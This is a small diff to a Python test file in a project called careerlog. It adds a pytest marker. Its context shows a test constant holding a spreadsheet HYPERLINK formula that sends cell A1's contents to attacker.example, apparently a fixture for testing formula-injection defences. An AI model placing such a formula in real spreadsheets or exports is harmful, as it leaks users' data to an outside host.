@@ -17,6 +17,8 @@ from careerlog.cli import main
 from tests import factories as f
 from tests.conftest import projected
 
+pytestmark = pytest.mark.made_store  # an empty PostgreSQL store made once and lent (tests/conftest.py)
+
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"SK")'
 NIP = f.nip(date(1986, 9, 26), date(2010, 3, 1), "M", sequence=801)
 
